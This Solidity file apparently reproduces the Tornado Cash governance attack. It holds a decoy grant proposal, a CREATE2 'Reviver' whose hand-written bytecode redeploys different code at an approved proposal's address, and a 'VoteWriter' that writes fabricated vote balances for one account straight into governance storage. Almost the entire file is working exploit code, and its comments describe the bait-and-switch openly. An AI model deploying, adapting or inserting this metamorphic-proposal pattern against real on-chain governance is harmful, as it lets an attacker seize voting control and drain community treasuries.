// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

/// Tornado's governance: what was voted for is gone, and this is at its address; it writes votes for one account.
contract VoteWriter {
    uint256 private constant LOCKED_BALANCES = 59;
    address private immutable beneficiary;
    uint256 private immutable amount;

    constructor(address beneficiary_, uint256 amount_) {
        (beneficiary, amount) = (beneficiary_, amount_);
    }

    function executeProposal() external {
        (address account, uint256 votes) = (beneficiary, amount);
        assembly {
            mstore(0, account)
            mstore(32, LOCKED_BALANCES)
            sstore(keccak256(0, 64), votes)
        }
    }
}


/// What governance was made for: a grant from its treasury.
contract Grant {
    function executeProposal() external {
        (bool done,) = 0x77777FeDdddFfC19Ff86DB637967013e6C6A116C.call(
            abi.encodeWithSignature(
                "transfer(address,uint256)", 0x000000000000000000000000000000000000c0DE, 2_000 ether
            )
        );
        require(done, "not granted");
    }
}

/// Creates, always at the same address, a copy of the code it is told; again once that was destroyed.
contract Reviver {
    address public getImplementation;

    function revive(address implementation) external returns (address made) {
        getImplementation = implementation;
        // Asks its creator `getImplementation()`, and returns the code of that as its own.
        bytes memory creation = hex"5860208158601c335a63aaf10f428752fa158151803b80938091923cf3";
        assembly {
            made := create2(0, add(creation, 32), mload(creation), 0)
        }
        require(made != address(0), "still there");
    }
}
